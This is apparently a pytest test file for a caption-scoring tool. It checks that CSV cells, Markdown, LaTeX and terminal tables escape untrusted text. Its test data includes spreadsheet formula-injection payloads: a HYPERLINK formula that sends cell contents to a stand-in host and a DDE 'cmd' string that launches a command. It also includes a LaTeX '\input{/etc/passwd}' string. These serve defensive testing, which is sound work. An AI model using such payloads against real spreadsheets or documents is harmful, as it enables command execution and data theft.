from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from captune.captions import read_captions
from captune.cli import main
from captune.escaping import console
from captune.tables import (
    Column,
    Estimate,
    Fraction,
    Number,
    Table,
    as_typed,
    csv_row,
    difference,
    harmless,
)

FORMULA = "=HYPERLINK(\"x.example/?\"&A1,\"a dog\")"  # fmt: skip
# what spreadsheets begin a formula with, behind what they leave away or divide cells by
_RISKY = st.text(alphabet="=+-@＝＋－＠\t\r\n;,\"' a1", max_size=8)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1+1", "'＝1+1"),
        ("＋1-1", "'＋1-1"),
        ("－a", "'－a"),
        ("＠a", "'＠a"),
        ("\ta", "'\ta"),
        ("\ra", "'\ra"),
        ("\na", "'\na"),
        (" =1+1", "' =1+1"),
        ('"=1+1', "'\"=1+1"),
        ("'=1+1", "''=1+1"),
        ("'\ta", "''\ta"),
        ("a dog;=1+1", "a dog;'=1+1"),
        ("a dog\n=1+1", "a dog\n'=1+1"),
        ('a dog"; =1+1', "a dog\";' =1+1"),
    ],
)
def test_a_formula_becomes_text(text: str, cell: str) -> None:
    assert harmless(text) == cell
    assert as_typed(cell) == text


@pytest.mark.parametrize(
    "text",
    ["a dog", "7_0.png", "-0.5", "+3", "-1e-05", "12", "", "two-tone, =)", "'tis", "a;b", "don't"],
)
def test_what_is_no_formula_stays(text: str) -> None:
    assert harmless(text) == as_typed(text) == text


@given(_RISKY)
def test_a_cell_comes_back(text: str) -> None:
    cell = harmless(text)
    assert as_typed(cell) == text
    if cell != text:
        for part in re.split("[;\t\r\n]", cell):
            assert not re.match('[\\s"]*[=+@＝＋－＠-]', part)


@given(st.lists(st.one_of(st.text(st.characters(codec="utf-8"), min_size=1), _RISKY), min_size=2))
def test_a_row_is_read_as_it_was_written(cells: list[str]) -> None:
    cells = [cell.replace("\0", "") for cell in cells]
    for raw in (False, True):
        rows = list(csv.reader(io.StringIO(csv_row(cells, raw=raw), newline="")))
        assert len(rows) == 1
        assert (rows[0] if raw else [as_typed(cell) for cell in rows[0]]) == cells


def test_numbers_and_nothing_are_written_with_every_digit() -> None:
    cells: list[Any] = [-0.5, np.float64(-1 / 3), None, -3, "", "half \ud83d, byte \udc80"]
    row = csv_row(cells)
    assert row == f'-0.5,{-1 / 3!r},,-3,,"half \\ud83d, byte \udc80"\n'.replace("\udc80", "\\udc80")


HOSTILE = ("=1+1", "@SUM(A1)", "-x")


def cells_of(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def assert_harmless(path: Path) -> None:
    cells = cells_of(path)
    assert any(cell.startswith("'") for cell in cells)
    for cell in cells:
        try:
            float(cell)
        except ValueError:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture
def images(tmp_path: Path, colours: Any) -> Path:
    folder = tmp_path / "images"
    folder.mkdir()
    for n, name in enumerate(HOSTILE):
        Image.new("RGB", (20, 20), ("red", "green", "blue")[n]).save(folder / f"{name}.png")
    return folder


@pytest.mark.parametrize("raw", [False, True])
def test_classify_and_prompts(images: Path, tmp_path: Path, raw: bool) -> None:
    flags = ["--raw-csv"] if raw else []
    (tmp_path / "labels.json").write_text(json.dumps({"=7": "red", "+a": "green", "-1": "blue"}))
    words = [str(images), "--labels", str(tmp_path / "labels.json")]
    answers, table = tmp_path / "answers.csv", tmp_path / "prompts.csv"
    assert main(["classify", *words, "--csv", str(answers), *flags]) == 0
    # what was written is read again as truth
    truth = ["--truth", str(answers)]
    shapes = ["--prompt", "=a {}", "--prompt=-{}", "--csv", str(table), "--out"]
    assert main(["prompts", *words, *truth, *shapes, str(tmp_path / "run"), *flags]) == 0
    metrics = json.loads((tmp_path / "run" / "metrics.json").read_text())
    assert metrics["prompts"][0]["accuracy"] == 1.0
    if raw:
        assert answers.read_text() == "filename,label\n-x.png,-1\n=1+1.png,=7\n@SUM(A1).png,+a\n"
        return
    said = "filename,label\n'-x.png,-1\n'=1+1.png,'=7\n'@SUM(A1).png,'+a\n"
    assert answers.read_text() == said
    assert_harmless(table)
    assert_harmless(tmp_path / "run" / "prompts.csv")


@pytest.mark.parametrize("raw", [False, True])
def test_score_rank_compare_and_report(tmp_path: Path, raw: bool) -> None:
    flags = ["--raw-csv"] if raw else []
    captions = {name: f"{name} a dog" for name in HOSTILE}
    given, other, references = (tmp_path / f"{name}.json" for name in ("a", "b", "refs"))
    given.write_text(json.dumps(captions))
    other.write_text(json.dumps(dict.fromkeys(HOSTILE, "=a cat")))
    references.write_text(json.dumps({name: ["=a dog", "a cat"] for name in HOSTILE}))
    run, asked = tmp_path / "run", ["--references", str(references), "--no-interval"]
    scores, both = tmp_path / "scores.csv", tmp_path / "both.csv"
    words = ["score", str(given), *asked, "--out", str(run), "--per-image", str(scores)]
    assert main([*words, *flags]) == 0
    assert main(["rank", str(run), *flags]) == 0
    words = ["compare", str(given), str(other), *asked[:-1], "--csv", str(both)]
    assert main([*words, *flags]) == 0
    page, figures = str(tmp_path / "page.html"), tmp_path / "figures"
    assert main(["report", str(run), "--out", page, "--figures", str(figures), *flags]) == 0
    tables = [scores, both, next(run.glob("rank-*.csv"))]
    shown = "".join(path.read_text() for path in (figures / "tables").glob("*.csv"))
    assert "=1+1" in shown or "a dog" not in shown
    if raw:
        assert all("=1+1" in cells_of(path) for path in tables)
        return
    for path in tables:
        assert_harmless(path)
    back = read_captions(tables[-1]).captions
    assert {image: [caption] for image, caption in captions.items()} == back


def _scores() -> Table:
    return Table(
        "scores-1",
        "Scores of 2 files & more",
        [
            Column("captions"),
            Column("CIDEr-D", number=True),
            Column("", wide=True),
            Column("p", number=True),
        ],
        [
            [
                "=a_b|c",
                Estimate(Number(0.51234, "0.512"), (Number(0.4, "0.400"), Number(0.6, "0.600"))),
                Fraction(0.5),
                None,
            ],
            ["50 % {x}", Estimate(Number(-0.25, "−0.250")), Fraction(0.1), Number(0.0123, "0.012")],
        ],
        frozenset({1}),
        "An <i>interval</i> below each.",
    )


def test_values_have_all_digits_and_both_ends() -> None:
    assert _scores().values() == [
        ["captions", "CIDEr-D", "CIDEr-D, 95 % from", "CIDEr-D, 95 % to", "p"],
        ["=a_b|c", 0.51234, 0.4, 0.6, ""],
        ["50 % {x}", -0.25, "", "", 0.0123],
    ]
    assert _scores().csv().splitlines()[1] == "'=a_b|c,0.51234,0.4,0.6,"


def test_a_difference_of_nothing_in_every_image_is_said_in_words() -> None:
    zero, some = Number(0.0, "0.000"), Number(0.5, "+0.500")
    cell = difference(zero, (zero, zero))
    assert str(cell) == "no difference in any image"
    assert cell.number.value == 0
    assert str(difference(zero, (zero, some))) == "0.000 [0.000, +0.500]"
    assert str(difference(zero, None)) == "0.000"


def test_markdown_shows_what_others_typed_as_text() -> None:
    assert _scores().markdown() == (
        "Scores of 2 files \\& more\n\n"
        "| captions | CIDEr-D | p |\n"
        "| --- | ---: | ---: |\n"
        "| =a\\_b\\|c | 0.512 \\[0.400, 0.600\\] | – |\n"
        "| **50 % {x}** | −0.250 | 0.012 |\n\n"
        "An \\<i\\>interval\\</i\\> below each.\n"
    )


def test_latex_is_escaped_and_in_the_style_of_booktabs() -> None:
    assert _scores().latex() == (
        "\\begin{table}\n"
        "\\centering\n"
        "\\caption{Scores of 2 files \\& more}\n"
        "\\label{tab:scores-1}\n"
        "\\begin{tabular}{lrr}\n"
        "\\toprule\n"
        "captions & CIDEr-D & p \\\\\n"
        "\\midrule\n"
        "=a\\_b\\textbar{}c & 0.512 [0.400, 0.600] & -- \\\\\n"
        "\\textbf{50 \\% \\{x\\}} & $-$0.250 & 0.012 \\\\\n"
        "\\bottomrule\n"
        "\\end{tabular}\n"
        "\\par\\smallskip{\\footnotesize An \\textless{}i\\textgreater{}interval"
        "\\textless{}/i\\textgreater{} below each.}\n"
        "\\end{table}\n"
    )


def test_a_backslash_stays_a_backslash_in_latex() -> None:
    table = Table("t", "", [Column("x")], [["\\input{/etc/passwd} ^~#$"]])
    assert (
        "\\textbackslash{}input\\{/etc/passwd\\} \\textasciicircum{}\\textasciitilde{}\\#\\$ \\\\"
        in table.latex()
    )


def test_a_terminal_shows_every_cell_and_the_note(capsys: pytest.CaptureFixture[str]) -> None:
    console().print(_scores().for_terminal())
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].strip() == "Scores of 2 files & more"
    assert lines[1].split() == ["captions", "CIDEr-D", "p"]
    assert lines[2].split() == ["=a_b|c", "0.512", "[0.400,", "0.600]", "–"]
    assert lines[3].split() == ["50", "%", "{x}", "−0.250", "0.012"]
    assert lines[4].strip() == "An <i>interval</i> below each."
